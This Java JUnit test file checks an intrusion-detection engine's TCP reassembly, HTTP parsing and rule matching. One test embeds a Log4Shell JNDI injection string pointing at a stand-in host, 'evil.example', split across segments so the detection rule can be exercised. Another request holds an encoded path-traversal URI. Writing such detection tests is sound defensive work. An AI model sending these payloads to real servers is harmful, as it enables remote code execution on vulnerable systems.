package io.crowsnest.detection.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.crowsnest.decoders.Packet;
import io.crowsnest.detection.TestSupport;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Flow table → reassembly → app layer → detection, over hand-built TCP segments. */
class StreamAndAppLayerDetectionTest {
    TcpConversation c;

    void setUp(String rules) {
        c = new TcpConversation(TestSupport.harness(rules), 40000, 80);
    }

    Packet seg(boolean toServer, int flags, String payload) {
        return c.seg(toServer, flags, payload);
    }

    List<Long> send(Packet p) {
        return c.send(p);
    }

    void handshake() {
        c.handshake();
    }

    @Test
    void log4ShellSplitOverTwoSegmentsAlertsOnce() {
        setUp("alert tcp any any -> any any (msg:\"log4shell\"; content:\"${jndi:ldap://\"; nocase; sid:1;)\n");
        handshake();
        assertEquals(List.of(), send(seg(true, 0x18, "GET / HTTP/1.1\r\nUser-Agent: ${jn")));
        assertEquals(List.of(1L), send(seg(true, 0x18, "di:ldap://evil.example/a}\r\n")));
        assertEquals(List.of(), send(seg(true, 0x18, "Host: x\r\n\r\n")));
        assertEquals(1, c.alerts.stream().filter(s -> s == 1L).count());
    }

    @Test
    void outOfOrderSplitStillMatchesOnReassembledStream() {
        setUp("alert tcp any any -> any any (content:\"attack-string\"; sid:7;)\n");
        handshake();
        Packet a = seg(true, 0x18, "xxxxattack-");
        Packet b = seg(true, 0x18, "string yyyy");
        assertEquals(List.of(), send(b)); // out of order: buffered
        assertEquals(List.of(7L), send(a)); // fills the hole, both delivered, match spans them
    }

    @Test
    void httpBuffersFireOncePerTransaction() {
        setUp("alert http any any -> any any (http.uri; content:\"/admin\"; sid:10;)\n"
                + "alert http any any -> any any (http.host; content:\"example.com\"; sid:11;)\n"
                + "alert http any any -> any any (http.stat_code; content:\"404\"; sid:12;)\n"
                + "alert http any any -> any any (file_data; content:\"secret\"; sid:13;)\n"
                + "alert http any any -> any any (http.user_agent; content:\"curl\"; sid:14;)\n");
        handshake();
        send(seg(true, 0x18, "GET /a/../ad%6din?x=1 HTTP/1.1\r\nHost: Example.COM:8080\r\nUser-"));
        send(seg(true, 0x18, "Agent: curl/8\r\n\r\n"));
        send(seg(false, 0x18, "HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nsec\r\n"));
        send(seg(false, 0x18, "3\r\nret\r\n0\r\n\r\n"));
        // pipelined second request: the same rules fire again, once, for the new transaction
        send(seg(true, 0x18, "GET /admin HTTP/1.1\r\nHost: other\r\n\r\n"));
        assertEquals(2, count(10));
        assertEquals(1, count(11));
        assertEquals(1, count(12));
        assertEquals(1, count(13));
        assertEquals(1, count(14));
    }

    @Test
    void appProtocolDetectedFromBytesOnAnyPort() {
        setUp("alert http any any -> any any (msg:\"any http\"; flow:to_server; sid:20;)\n"
                + "alert tls any any -> any any (msg:\"any tls\"; sid:21;)\n");
        handshake();
        assertEquals(List.of(20L), send(seg(true, 0x18, "POST /x HTTP/1.1\r\nHost: a\r\n\r\n")));
        assertEquals(0, count(21));
    }

    long count(long sid) {
        return c.count(sid);
    }
}
